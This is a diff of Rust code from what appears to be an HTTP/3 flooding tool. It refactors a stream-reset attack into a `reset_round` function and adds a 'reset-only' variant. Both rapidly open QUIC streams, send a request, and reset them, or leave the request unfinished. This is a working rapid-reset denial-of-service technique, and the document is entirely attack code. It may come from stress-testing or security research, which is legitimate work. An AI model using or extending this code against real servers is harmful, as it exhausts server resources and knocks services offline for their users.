@@ -125,26 +125,8 @@ fn attack(f: &mut Flooder, (plan, kind): (&H3Plan, H3FloodKind), tally: &mut Tal
             tally.credit_waits += 1;
             tally.most_open = tally.most_open.max(f.open.len() as u64);
         }
-        H3FloodKind::Reset => {
-            let code = VarInt::from_u32(REQUEST_CANCELLED);
-            for id in f.to_reset.drain(..) {
-                let quic = f.conn.quic();
-                let _ = quic.send_stream(id).reset(code);
-                let _ = quic.recv_stream(id).stop(code);
-                tally.resets += 1;
-            }
-            for _ in 0..RESETS_PER_ROUND {
-                let Some(id) = f.conn.quic().streams().open(Dir::Bi) else {
-                    tally.credit_waits += 1;
-                    break;
-                };
-                let mut send = f.conn.quic().send_stream(id);
-                if send.write(&plan.frame) == Ok(plan.frame.len()) {
-                    let _ = send.finish();
-                }
-                f.to_reset.push(id);
-                tally.streams += 1;
-            }
+        H3FloodKind::Reset | H3FloodKind::ResetOnly => {
+            reset_round(f, (plan, kind == H3FloodKind::ResetOnly), tally)
         }
         H3FloodKind::QpackTable if !f.sent => {
             f.sent = true;
@@ -165,6 +147,33 @@ fn attack(f: &mut Flooder, (plan, kind): (&H3Plan, H3FloodKind), tally: &mut Tal
             }
         }
         H3FloodKind::QpackTable | H3FloodKind::QpackBlocked => {}
+    }
+}
+
+/// One round of `reset` (or `reset-only`): the streams whose request went out last round are
+/// reset (and stopped, unless `only`), and new ones opened with a request (finished unless
+/// `only`: then the request never completes).
+fn reset_round(f: &mut Flooder, (plan, only): (&H3Plan, bool), tally: &mut Tally) {
+    let code = VarInt::from_u32(REQUEST_CANCELLED);
+    for id in f.to_reset.drain(..) {
+        let quic = f.conn.quic();
+        let _ = quic.send_stream(id).reset(code);
+        if !only {
+            let _ = quic.recv_stream(id).stop(code);
+        }
+        tally.resets += 1;
+    }
+    for _ in 0..RESETS_PER_ROUND {
+        let Some(id) = f.conn.quic().streams().open(Dir::Bi) else {
+            tally.credit_waits += 1;
+            break;
+        };
+        let mut send = f.conn.quic().send_stream(id);
+        if send.write(&plan.frame) == Ok(plan.frame.len()) && !only {
+            let _ = send.finish();
+        }
+        f.to_reset.push(id);
+        tally.streams += 1;
     }
 }
 
